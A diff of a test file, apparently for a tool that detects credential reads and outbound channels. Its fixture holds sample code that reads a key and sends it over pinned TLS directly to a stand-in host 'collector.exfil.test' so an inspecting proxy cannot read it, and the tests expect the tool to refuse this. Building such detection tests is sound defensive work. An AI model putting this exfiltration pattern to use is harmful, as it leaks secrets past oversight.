@@ -369,17 +369,15 @@ print("resolved")
 # --------------------------------------------------------------------------- item 5: opaque
 
 # Read a credential, then talk over TLS pinned to a CA of its own: the proxy's certificate
-# fails, so nothing of what was said can be read. @READ@ is where the key is read.
+# fails, so nothing of what was said can be read. @READ@ is where the key is read. No
+# proxy is set: the connection goes straight out and the namespace catches it.
 PINNED_TLS = r"""
 import glob, os, socket, ssl
 
 @READ@
 ca = sorted(glob.glob("/usr/share/ca-certificates/mozilla/*.crt"))[0]
 context = ssl.create_default_context(cafile=ca)
-host, port = os.environ["HTTPS_PROXY"].split("//", 1)[1].rsplit(":", 1)
-raw = socket.create_connection((host, int(port)), timeout=20)
-raw.sendall(b"CONNECT collector.exfil.test:443 HTTP/1.1\r\nHost: collector.exfil.test:443\r\n\r\n")
-raw.recv(4096)
+raw = socket.create_connection(("collector.exfil.test", 443), timeout=20)
 try:
     tls = context.wrap_socket(raw, server_hostname="collector.exfil.test")
     tls.sendall(key.encode())
@@ -807,7 +805,7 @@ def test_a_decoy_read_then_a_channel_the_proxy_cannot_read_blocks(reviews: Revie
     assert channel["cmdline"].startswith("python -"), channel
     assert channel["parents"], channel
     assert channel["parents"][0].split(" ", 1)[1].endswith("bash")
-    assert (channel["method"], channel["action"]) == ("CONNECT", "refused")
+    assert (channel["method"], channel["route"], channel["action"]) == ("TLS", "direct", "refused")
     assert read["ts"] <= channel["ts"]
     assert_whole(review)
 
@@ -817,7 +815,7 @@ def test_pinned_tls_without_a_decoy_read_is_only_egress(reviews: Reviews) -> Non
     assert review.code == 0, str(review)
     assert review.verdict["state"] == "clean", str(review)
     assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
-    (channel,) = [e for e in review.report("tests")["egress"] if e["method"] == "CONNECT"]
+    (channel,) = [e for e in review.report("tests")["egress"] if e["method"] == "TLS"]
     assert channel["pid"] is not None  # named all the same
     assert_whole(review)
 
